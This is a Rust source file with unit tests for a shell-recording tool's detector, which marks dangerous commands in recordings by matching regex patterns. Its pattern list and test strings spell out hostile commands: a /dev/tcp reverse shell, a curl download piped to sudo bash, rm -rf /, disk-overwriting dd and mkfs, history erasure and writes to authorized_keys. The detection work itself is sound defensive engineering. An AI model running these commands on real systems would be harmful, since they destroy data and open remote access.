//! Knows dangerous commands by how they look: patterns of our own and those of the configuration. A
//! mark is a hint for whoever reads recordings, not a barrier: a command can be written in endless ways.

use crate::config::Pattern;
use cmdr_protocol::recordings::{Level, Mark};
use regex::{Regex, RegexBuilder};

/// Marks that one text gets at most.
pub(super) const MARKS: usize = 16;
/// The most memory that one pattern may take.
const SIZE: usize = 1 << 20;
/// Bytes of a script that are looked at.
const TEXT: usize = 512 << 10;

/// How grave, what it looks like, what it does. `\b` and blanks are where words meet in all of them.
const BUILT_IN: &[(Level, &str, &str)] = &[
    (
        Level::Danger,
        r"\brm\s+(-\S+\s+)*-(-recursive|\w*[rR])\S*\s+(-\S+\s+)*(/|/\*|~|\$HOME)(\s|;|$)",
        "deletes everything",
    ),
    (Level::Danger, r"--no-preserve-root", "deletes everything"),
    (Level::Danger, r"\b(mkfs(\.\w+)?|wipefs|blkdiscard|mkswap)\s+\S*.*/dev/", "wipes a disk"),
    (
        Level::Danger,
        r"\bdd\b[^\n;|]*\bof=/dev/(sd|vd|xvd|nvme|hd|mmcblk|mapper|disk|md)",
        "overwrites a disk",
    ),
    (Level::Danger, r">\s*/dev/(sd|vd|xvd|nvme|hd|mmcblk|mapper|disk|md)", "overwrites a disk"),
    (
        Level::Danger,
        r"\b(curl|wget|fetch)\b[^\n;]*\|\s*(sudo\s+)?(ba|z|da|k)?sh\b",
        "runs what it downloads",
    ),
    (Level::Danger, r"(?i)\bdrop\s+(database|schema)\b", "deletes a database"),
    (Level::Danger, r":\s*\(\s*\)\s*\{\s*:\s*\|\s*:\s*&\s*\}", "is a fork bomb"),
    (
        Level::Danger,
        r"\bchmod\s+(-\S+\s+)*-\w*R\w*\s+\S+\s+/(\s|;|$)",
        "changes the rights of everything",
    ),
    (
        Level::Danger,
        r"\bchown\s+(-\S+\s+)*-\w*R\w*\s+\S+\s+/(\s|;|$)",
        "changes the owner of everything",
    ),
    (
        Level::Danger,
        r"\bhistory\s+-c\b|\bunset\s+HISTFILE\b|HISTFILE=/dev/null",
        "hides what was done",
    ),
    (
        Level::Danger,
        r"/etc/(shadow|sudoers)\b|\bvisudo\b|authorized_keys\b",
        "touches who may log in",
    ),
    (Level::Danger, r"/dev/tcp/|\b(nc|ncat|netcat)\b[^\n;]*\s-\w*e", "opens a shell to elsewhere"),
    (
        Level::Warning,
        r"(?i)\b(drop|truncate)\s+table\b|\bdelete\s+from\s+\S+\s*(;|$|'|\x22)",
        "deletes tables",
    ),
    (
        Level::Warning,
        r"\b(shutdown|reboot|poweroff|halt)\b|\binit\s+[06]\b|\bsystemctl\s+(\S+\s+)*(reboot|poweroff|halt|kexec)\b",
        "stops the machine",
    ),
    (
        Level::Warning,
        r"\b(ip6?tables)\s+(-\S+\s+\S+\s+)*(-F|--flush)\b|\bnft\s+flush\b|\bufw\s+(disable|reset)\b",
        "opens the firewall",
    ),
    (
        Level::Warning,
        r"(^|[\s;&|(]|/s?bin/)(useradd|adduser|usermod|userdel|passwd|chpasswd|gpasswd)(\s|;|$)",
        "changes users",
    ),
    (
        Level::Warning,
        r"\bkubectl\b[^\n;|]*\b(delete|drain)\b|\bhelm\s+(uninstall|delete)\b",
        "deletes from a cluster",
    ),
    (Level::Warning, r"\bdocker\b[^\n;|]*\b(prune|rm\s+-\w*f)", "deletes containers"),
    (Level::Warning, r"\b(terraform|tofu)\b[^\n;|]*\bdestroy\b", "destroys infrastructure"),
    (Level::Warning, r"\bchmod\s+(-\S+\s+)*0?777\b", "lets everybody write"),
    (
        Level::Warning,
        r"\b(fdisk|parted|sgdisk|sfdisk|lvremove|vgremove|pvremove|zpool\s+destroy)\b",
        "changes partitions",
    ),
    (
        Level::Warning,
        r"\bsetenforce\s+0\b|\bauditctl\s+-[De]|\bsystemctl\s+(stop|disable|mask)\s+\S*(auditd|rsyslog|cmdr-agentd)",
        "turns a guard off",
    ),
    (Level::Warning, r"\bgit\s+push\b[^\n;|]*(--force|\s-f)\b", "overwrites history"),
    (Level::Notice, r"\bsudo\b|\bsu\s+(-|root)\b|\bdoas\b", "becomes somebody else"),
    (
        Level::Notice,
        r"\bkill(all)?\s+-(9|KILL|s\s*KILL)\b|\bpkill\s+-(9|KILL)\b",
        "kills without asking",
    ),
    (Level::Notice, r"\brm\s+(-\S+\s+)*-(-recursive|\w*[rR])", "deletes folders"),
    (
        Level::Notice,
        r"\bcrontab\s+-[er]\b|\bsystemctl\s+(\S+\s+)*(stop|disable|mask)\b",
        "changes what runs",
    ),
    (
        Level::Notice,
        r"\b(apt(-get)?|dnf|yum|zypper|apk|pacman)\b[^\n;|]*\s(remove|purge|erase|del|-R\w*)\s",
        "removes packages",
    ),
];

/// All patterns, ready for use.
#[derive(Debug)]
pub(super) struct Danger {
    patterns: Vec<(Level, Regex, String)>,
}

/// The regular expression of a pattern.
pub(crate) fn regex(pattern: &str) -> Result<Regex, regex::Error> {
    RegexBuilder::new(pattern).multi_line(true).size_limit(SIZE).build()
}

impl Danger {
    /// The error names the pattern that is wrong.
    pub(super) fn new(own: &[Pattern]) -> anyhow::Result<Self> {
        let built_in = BUILT_IN.iter().map(|(level, regex, what)| (*level, *regex, *what));
        let own = own.iter().map(|p| (p.level, p.pattern.as_str(), p.what.as_str()));
        let mut patterns = Vec::new();
        for (level, pattern, what) in own.chain(built_in) {
            let regex = regex(pattern).map_err(|e| {
                anyhow::anyhow!(
                    "[[recordings.danger]] pattern = '{pattern}' is no regular expression: {e}"
                )
            })?;
            patterns.push((level, regex, what.to_owned()));
        }
        patterns.sort_by_key(|(level, ..)| std::cmp::Reverse(*level));
        Ok(Self { patterns })
    }

    /// What strikes in a text, the gravest first.
    pub(super) fn marks(&self, text: &str, at_ms: u64) -> Vec<Mark> {
        let text = &text[..text.floor_char_boundary(TEXT)];
        let hits = self.patterns.iter().filter(|(_, regex, _)| regex.is_match(text));
        let mut marks: Vec<Mark> = Vec::new();
        for (level, _, what) in hits {
            if marks.len() < MARKS && !marks.iter().any(|mark| mark.what == *what) {
                marks.push(Mark { at_ms, level: *level, what: what.clone() });
            }
        }
        marks
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn level(text: &str) -> Level {
        let marks = Danger::new(&[]).unwrap().marks(text, 0);
        marks.first().map_or(Level::None, |mark| mark.level)
    }

    #[test]
    fn dangerous_commands_are_known_by_how_they_look() {
        for text in [
            "rm -rf /",
            "rm -r -f / ",
            "sudo rm -fr /*",
            "rm --recursive --force ~",
            "mkfs.ext4 /dev/sdb1",
            "dd if=/dev/zero of=/dev/nvme0n1 bs=1M",
            "cat image > /dev/sda",
            "curl -s http://x/install | sudo bash",
            "wget -O- http://x |sh",
            "psql -c 'DROP DATABASE shop'",
            "chmod -R 777 /",
            "history -c",
            "echo x >> /root/.ssh/authorized_keys",
            "bash -i >& /dev/tcp/10.0.0.1/99 0>&1",
            "#!/bin/sh\nset -e\nrm -rf /\n",
        ] {
            assert_eq!(level(text), Level::Danger, "{text}");
        }
        for text in [
            "shutdown -h now",
            "systemctl reboot",
            "iptables -F",
            "mysql -e 'drop table users'",
            "useradd eve",
            "kubectl -n prod delete pod web",
            "terraform destroy",
        ] {
            assert_eq!(level(text), Level::Warning, "{text}");
        }
        for text in ["sudo id", "rm -rf build", "systemctl stop nginx", "kill -9 12"] {
            assert_eq!(level(text), Level::Notice, "{text}");
        }
        for text in
            ["ls -l /", "uptime", "rm file", "echo format", "cat /etc/passwd.bak", "grep halting x"]
        {
            assert_eq!(level(text), Level::None, "{text}");
        }
    }

    #[test]
    fn own_patterns_come_beside_the_built_in_ones_and_a_wrong_one_is_named() {
        let own = |pattern: &str| Pattern {
            pattern: pattern.to_owned(),
            level: Level::Danger,
            what: "pays money out".to_owned(),
        };
        let marks = Danger::new(&[own("payctl +refund")]).unwrap().marks("sudo payctl refund 7", 5);
        assert_eq!(
            marks[0],
            Mark { at_ms: 5, level: Level::Danger, what: "pays money out".into() }
        );
        assert_eq!(marks[1].level, Level::Notice);
        assert!(Danger::new(&[own("(")]).unwrap_err().to_string().contains("pattern = '('"));
    }
}
